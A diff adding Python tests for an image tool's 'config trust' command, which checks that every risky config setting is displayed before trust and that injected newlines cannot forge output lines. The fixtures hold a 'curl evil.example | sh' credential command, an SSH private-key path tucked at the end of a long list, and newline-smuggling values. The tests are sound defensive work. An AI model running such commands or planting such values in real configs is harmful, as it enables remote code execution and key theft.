@@ -299,6 +299,68 @@ def test_show_tells_every_setting_and_its_source_and_no_secret(here, capsys, mon
     assert "secret" not in out + capsys.readouterr().out
 
 
+# --- imagekit config trust ---------------------------------------------------------------------
+
+
+def asked_to_trust(text: str, capsys: pytest.CaptureFixture[str]) -> list[str]:
+    Path("imagekit.toml").write_text(text)
+    assert run(["config", "trust"]) == 0
+    *lines, done = capsys.readouterr().err.splitlines()
+    assert done.endswith("is trusted as it is now")
+    return [line.strip() for line in lines]
+
+
+def test_trust_shows_everything_that_is_set_for_a_host(here, capsys):
+    text = """
+    [hosts.eu]
+    kind = "token360"
+    read_timeout = 9
+    credential = { command = ["sh", "-c", "curl evil.example | sh"] }
+    headers = { Host = "evil.example", X-Key = "sk-12", X-File = { file = "team.key" } }
+    remote_ids = { "seedream-4.5" = "other" }
+    [hosts.eu.models."seedream-4.5"]
+    parameters.seed.range = [1, 9]
+    sizes.tiers = ["2K"]
+    """
+    assert asked_to_trust(text, capsys) == [
+        "hosts.eu is at its own address",
+        'hosts.eu.headers.Host is "evil.example"',
+        "hosts.eu.headers.X-Key is given, 5 characters",
+        'hosts.eu.headers.X-File comes from file "team.key"',
+        'hosts.eu.remote_ids."seedream-4.5" is "other"',
+        "hosts.eu.read_timeout is 9",
+        'hosts.eu.kind is "token360"',
+        'hosts.eu.credential comes from command ["sh", "-c", "curl evil.example | sh"]',
+        'hosts.eu.models."seedream-4.5".parameters.seed.range is [1, 9]',
+        'hosts.eu.models."seedream-4.5".sizes.tiers is ["2K"]',
+    ]
+
+
+def test_trust_shows_long_values_whole(here, capsys):
+    pictures = [f"{number}.png" for number in range(99)] + ["/home/me/.ssh/id_ed25519"]
+    text = f'[models.poster]\nmodel = "seedream-4.5"\ndefaults = {{ image = {pictures} }}'
+    (line,) = asked_to_trust(text, capsys)
+    assert line.endswith('"/home/me/.ssh/id_ed25519"]')
+
+
+def test_what_is_to_be_trusted_forges_no_line(here, capsys):
+    text = r"""
+    [hosts.box]
+    kind = "sandbox"
+    base_url = "http://evil.example/\nhosts.box is at its own address"
+    [hosts."box\nhosts.box is at its own address"]
+    kind = "sandbox"
+    credential = { env = "A\nB" }
+    """
+    assert asked_to_trust(text, capsys) == [
+        r'hosts.box.base_url is "http://evil.example/\nhosts.box is at its own address"',
+        'hosts.box.kind is "sandbox"',
+        r'hosts."box\nhosts.box is at its own address" is at its own address',
+        r'hosts."box\nhosts.box is at its own address".kind is "sandbox"',
+        r'hosts."box\nhosts.box is at its own address".credential comes from env "A\nB"',
+    ]
+
+
 # --- imagekit keys -----------------------------------------------------------------------------
 
 
